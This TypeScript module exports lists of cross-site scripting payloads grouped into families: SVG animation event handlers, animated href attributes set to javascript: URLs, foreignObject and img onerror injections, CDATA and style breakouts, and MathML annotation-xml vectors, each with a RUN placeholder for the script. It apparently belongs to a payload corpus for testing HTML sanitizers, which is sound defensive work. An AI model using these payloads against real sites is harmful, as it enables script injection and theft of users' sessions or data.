import type { Family } from "./payloads.ts";

const attributes = ["onbegin", "onend", "onrepeat"];
const animations = ["animate", "set", "animateMotion", "animateTransform"];

const timed = animations.flatMap((name) =>
  attributes.map(
    (attribute) =>
      `<svg><${name} attributeName=x dur=1ms repeatCount=2 begin=0s to=1 ${attribute}=RUN /></svg>`,
  ),
);

const clicked = ["href", "xlink:href"].flatMap((name) =>
  ["animate", "set"].flatMap((element) => [
    `<svg><a><${element} attributeName="${name}" to="javascript:RUN" begin=0s fill=freeze /><text y=9>a</text></a></svg>`,
    `<svg><a id=to><text y=9>a</text></a><${element} href=#to attributeName="${name}" from=x to="javascript:RUN" /></svg>`,
  ]),
);

const drawn = [
  "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='x:' onerror='RUN'/></svg>#x\" /></svg>",
  "<svg><use href=/favicon.svg#x onload=RUN /></svg>",
  "<svg><foreignObject><iframe srcdoc='<script>top.RUN</script>'></iframe></foreignObject></svg>",
  "<svg><foreignObject><body onload=RUN></body></foreignObject></svg>",
  "<svg><title><img src=x: onerror=RUN></title></svg>",
  "<svg><desc><svg onload=RUN></svg></desc></svg>",
  "<svg><handler xmlns:ev=http://www.w3.org/2001/xml-events ev:event=load>RUN</handler></svg>",
  "<svg><discard onbegin=RUN /></svg>",
  "<svg><view id=v onload=RUN /></svg>",
  "<svg onunload=RUN onzoom=RUN onscroll=RUN><rect width=9 height=9 onclick=RUN /></svg>",
  "<svg><text onmouseover=RUN y=9>t</text><path onfocus=RUN tabindex=0 d=M0,0L9,9 /></svg>",
  "<svg><set attributeName=onclick to=RUN /><rect width=9 height=9><set attributeName=onclick to=RUN /></rect></svg>",
  "<svg><animate attributeName=onload values=RUN /></svg>",
  "<svg><style>*{animation:a 1s}@keyframes a{}</style><g onanimationstart=RUN><rect width=9 height=9 /></g></svg>",
  "<svg><script><![CDATA[RUN]]></script></svg>",
  "<svg><![CDATA[><img src=x: onerror=RUN>]]></svg>",
  "<svg></p><img src=x: onerror=RUN></svg>",
  "<svg><p><style><g title='</style><img src=x: onerror=RUN>'></g></style></p></svg>",
  "<math><mi onmouseover=RUN>m</mi><mtext><img src=x: onerror=RUN></mtext></math>",
  "<math><annotation-xml encoding=text/html><img src=x: onerror=RUN></annotation-xml></math>",
  "<math><annotation-xml><foreignObject><img src=x: onerror=RUN></foreignObject></annotation-xml></math>",
  "<math><semantics><mrow onclick=RUN><mi>x</mi></mrow></semantics></math>",
  "<math><mglyph onload=RUN></mglyph><malignmark><img src=x: onerror=RUN></malignmark></math>",
  '<math><a xlink:href="javascript:RUN"><mi>m</mi></a></math>',
  '<math><mstyle definitionURL="javascript:RUN" href="javascript:RUN"><mi>m</mi></mstyle></math>',
];

export const vectorAndMath: Family[] = [
  { name: "an animation's event", html: timed },
  { name: "an animated address", html: clicked },
  { name: "a drawing or a formula", html: drawn },
];
